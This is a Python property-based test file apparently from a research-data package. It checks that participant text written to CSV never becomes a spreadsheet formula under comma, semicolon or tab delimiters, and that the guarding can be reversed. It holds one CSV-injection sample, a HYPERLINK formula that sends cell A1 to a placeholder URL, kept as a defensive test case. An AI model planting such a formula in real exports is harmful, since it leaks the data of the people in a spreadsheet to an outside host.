"""Text of participants in a researcher's spreadsheet: nothing of it is computed there."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from diptych_analysis.tables.formulas import GUARD, guarded

SIGNS = tuple("=+-@＝＋－＠")
TEXTS = st.text(st.sampled_from("=+-@＝;,\t\r\n '\"a1"), max_size=12)
ATTACK = 'fine;=HYPERLINK("https://example.org/"&A1;"see")'


def cells(row: list[str], parted_at: str) -> list[str]:
    """The cells that a spreadsheet sees in a CSV file of ours, where it parts them at a sign."""
    file = io.StringIO(newline="")
    csv.writer(file, lineterminator="\n").writerow(row)
    file.seek(0)
    return [cell for line in csv.reader(file, delimiter=parted_at) for cell in line]


@pytest.mark.parametrize("parted_at", [",", ";", "\t"])
@given(first=TEXTS, second=TEXTS)
@example(first="x", second=ATTACK)
@example(first="x", second='a,"\n=1')
def test_no_text_becomes_a_formula_wherever_cells_are_parted(
    parted_at: str, first: str, second: str
) -> None:
    """In half of Europe a comma is written in numbers, and files are parted at semicolons."""
    found = cells([guarded(first), guarded(second)], parted_at)
    assert not [cell for cell in found if cell.lstrip(" ").startswith(SIGNS)], found


@given(text=TEXTS)
@example(text=ATTACK)
def test_every_text_comes_back(text: str) -> None:
    assert re.sub(GUARD, r"\1", guarded(text)) == text
